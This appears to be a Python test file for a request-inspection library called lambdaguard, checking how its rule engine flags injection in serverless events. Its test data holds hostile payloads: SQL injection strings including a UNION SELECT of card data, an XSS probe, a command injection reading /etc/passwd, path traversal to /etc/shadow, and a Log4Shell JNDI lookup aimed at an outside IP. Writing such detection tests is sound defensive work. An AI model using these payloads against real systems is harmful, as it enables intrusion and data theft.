"""Judging ends where enough is known, and never before an attack is found."""

from __future__ import annotations

import json
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from lambdaguard import Rule, guard
from lambdaguard.errors import EventRefused
from lambdaguard.rules.engine import Engine
from lambdaguard.rules.index import FAMILIES

DATA = Path(__file__).parent.parent / "data"
ENGINE = Engine(FAMILIES)
ATTACKS = [
    "' OR 1=1 -- ",
    "<script>alert(1)</script>",
    "x; cat /etc/passwd",
    "../../../etc/shadow",
    "${jndi:ldap://203.0.113.66/a}",
]


def high(matches):
    return any(match.confidence == "high" for match in matches)


def payloads():
    lines = [line for file in sorted(DATA.glob("*.jsonl")) for line in file.read_text(encoding="utf-8").split("\n") if line]
    return [json.loads(line)["payload"] for line in lines]


def test_a_brief_judgement_blocks_what_a_full_one_blocks():
    texts = payloads()
    differing = [
        text[:80]
        for text in texts
        for place in ("query", "body", "header")
        if high(ENGINE.judge(text, place)) != high(ENGINE.judge(text, place, brief=True))
    ]
    assert differing == []
    assert len(texts) > 1000


@given(st.lists(st.sampled_from(["query", "body", "header", "path", "cookie"]), min_size=2, max_size=6), st.sampled_from(ATTACKS))
def test_what_one_place_was_told_is_told_to_the_next(places, text):
    engine = Engine(FAMILIES)
    engine.suspects([text])
    for place in places:
        brief = engine.judge(text, place, brief=True)
        full = engine.judge(text, place)
        fresh = Engine(FAMILIES).judge(text, place)
        assert [match.rule.id for match in full] == [match.rule.id for match in fresh]
        assert high(brief) == high(full)


def refused(event, **settings):
    try:
        guard(lambda event, context: None, **settings)(event, None)
    except EventRefused as error:
        return error.findings
    return []


def test_a_refused_event_is_not_searched_to_its_end():
    event = {f"field{number}": f"{attack}{number}" for number in range(60) for attack in ATTACKS}
    event |= {f"more{number}": f"{number}' UNION SELECT a FROM b --" for number in range(60)}
    found = refused(event)
    assert 1 <= len({finding.path for finding in found}) <= 4


def test_where_something_is_ignored_the_rest_is_still_found():
    text = "<script>alert(1)</script> %27%20UNION%20SELECT%20card%20FROM%20payments--%20"
    ignoring = {"bio": ["xss"]}
    assert {finding.family for finding in refused({"bio": text}, injection={"ignore": ignoring})} & {"sql"}


def test_a_rule_of_the_user_is_still_looked_for():
    rule = Rule("ACME-001", "acme", "ours", cwe=489, needles=("acme",), pattern=r"acme-\d", attacks=("acme-1",), benign=("acme",))
    assert [finding.rule_id for finding in refused({"a": "acme-1"}, injection={"extra": [rule]})] == ["ACME-001"]
